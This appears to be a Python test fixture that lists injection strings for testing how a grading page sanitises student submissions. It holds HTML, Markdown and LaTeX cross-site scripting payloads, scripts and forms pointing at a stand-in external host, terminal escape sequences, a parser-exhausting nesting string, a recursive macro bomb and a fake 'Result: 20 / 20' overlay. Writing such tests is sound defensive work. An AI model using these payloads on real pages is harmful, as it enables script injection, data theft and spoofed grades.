"""What a student may write to get a tag, a link, a style or a request into a page, for the tests of pages."""

from __future__ import annotations

import random

SITE = "http://elsewhere.example"
# What a tag could do; each calls SITE or leaves a mark that a test finds.
TAGS = [
    f"<img src='{SITE}/i' onerror='document.title=1'>",
    f"<meta http-equiv=refresh content='0;url={SITE}/m'>",
    f"<script src='{SITE}/s'></script>",
    "<script>document.title=1</script>",
    f"<iframe src='{SITE}/f'></iframe>",
    f"<link rel=stylesheet href='{SITE}/l'>",
    f"<base href='{SITE}/'>",
    f"<form action='{SITE}/p'><input name=a><button>b</button></form>",
    f"<a href='javascript:alert(1)' ping='{SITE}/g'>a</a>",
    f"<style>@import '{SITE}/c'; body {{ display: none }}</style>",
    f"<svg onload=alert(1)><use href='{SITE}/u#a'/></svg>",
    f"<math><maction actiontype='statusline' xlink:href='{SITE}/x'>a</maction></math>",
    f"<object data='{SITE}/o'></object><embed src='{SITE}/e'>",
    f"<video src='{SITE}/v' autoplay onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>a</details>",
    "<div style='position:fixed;inset:0' class=panel id=top>over</div>",
    "</pre></div></body></html><b id=out>out</b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?x ?><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<x/onclick=alert(1)>a",
    "\u212aimg<\uff49mg src=x>",
]
MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    f"[a]({SITE}/a)",
    f"[a][x]\n\n[x]: {SITE}/r",
    f"[x]\n\n[x]: {SITE}/r",
    f"[a] [x]\n\n [x] : {SITE}/r 'title'",
    f"![a]({SITE}/i)",
    f"![a][x]\n\n[x]: {SITE}/i",
    f"[![a]({SITE}/i)]({SITE}/a)",
    "![a](attachment:none.png)",
    f"{SITE}/bare and www.elsewhere.example and me@elsewhere.example",
    f"<{SITE}/auto>",
    "<javascript:alert(1)>",
    "<me@elsewhere.example>",
    "# base_url\n\n## grade-softmax\n\nsubmission_id\n===\n\n> top\n> ---\n",
    f"```mermaid\n<img src='{SITE}/i' onerror=alert(1)>\n```",
    f"~~~ mermaid\nclick a '{SITE}/'\n~~~",
    "```<img/src=x/onerror=alert(1)>\n```",
    "```python onclick=alert(1)\nprint()\n```",
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    f"&lt;img src=x&gt; &#60;img src='{SITE}/i'&#62; &colon; &#x3c;script&#x3e;",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "a\n: <img src=x onerror=alert(1)>",
]
DEEP = "\n  - \n><" * 1000  # more than the stack of the parser holds
LATEX = [
    r"\href{javascript:alert(1)}{x}",
    rf"\href{{{SITE}/h}}{{x}}",
    r"\class{panel}{x}",
    r"\style{position:fixed;inset:0}{x}",
    r"\cssId{top}{x}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{</math><img src=x onerror=alert(1)>}",
    r"\operatorname{<img src=x onerror=alert(1)>}",
    r"\mathrm{&lt;script&gt;alert(1)&lt;/script&gt;}",
    r"\color{red\" onclick=\"alert(1)}{x}",
    r"\color{url(http://elsewhere.example/c)}{x}",
    r"\colorbox{red;position:fixed}{x}",
    r"\hspace{-999em}\rule{999em}{999em}",
    r"\raise{99em}{Result: 20 / 20}",
    r"\unicode{x3c}img src=x>",
    r"\verb|<img src=x onerror=alert(1)>|",
    r"\newcommand{\a}{\href{javascript:alert(1)}}\a{x}",
    r"\newcommand{\a}{\b\b}\newcommand{\b}{\c\c}\newcommand{\c}{\a\a}\a",
    r"\mmlToken{mi}[href=javascript:alert(1)]{x}",
    r"\begin{array}{c onclick=alert(1)}x\end{array}",
    r"\tag{<img src=x onerror=alert(1)>}",
    r"\left<img src=x onerror=alert(1)\right>",
    r"\lt img src=x onerror=alert(1)\gt",
    r"x&#x3c;img src=x onerror=alert(1)&#x3e;",
]
SEQUENCES = [
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[1;1H",
    "\x1b]8;;http://elsewhere.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[38;2;1;2;3mcolour\x1b[0m",
    "\x9b2J",
    "\u202egnp.exe\u2066",
    "\0\x08\x7f",
    "\ud800\udfff",
]


def everything() -> list[str]:
    """Return every injection: bare, in formulas, behind backticks, in a quote and in an attribute."""
    formulas = [
        text for latex in LATEX for text in (f"${latex}$", f"$${latex}$$", f"\\begin{{align}}{latex}\\end{{align}}")
    ]
    bare = [*TAGS, *MARKDOWN, *formulas, *SEQUENCES]
    escaping = [f"raise ValueError # ` {text} `" for text in [*TAGS, *MARKDOWN]] + [
        f"```\n{text}\n```\n{text}" for text in TAGS
    ]
    return [*bare, *escaping, *(f"\"'>{text}" for text in TAGS), *(f"$a {text} b$" for text in TAGS)]


def mixed(seed: int, count: int) -> list[str]:
    """Return texts made of pieces of injections, the same for the same seed."""
    chosen = random.Random(seed)
    glue = [
        "",
        " ",
        "\n",
        "\n\n",
        "`",
        "``",
        "$",
        "$$",
        "<",
        ">",
        "&",
        "\\",
        "](",
        "]: ",
        "* ",
        "> ",
        "    ",
        "|",
        "\u200b",
        '"',
    ]
    pieces = [text for text in [*TAGS, *MARKDOWN[:-4], *LATEX, *SEQUENCES]]
    texts = []
    for _ in range(count):
        parts = []
        for _ in range(chosen.randint(2, 5)):
            text = chosen.choice(pieces)
            start = chosen.randrange(len(text))
            parts += [text[start:] if chosen.random() < 0.3 else text[: start + 1] if chosen.random() < 0.3 else text]
            parts.append(chosen.choice(glue))
        texts.append("".join(parts))
    return texts
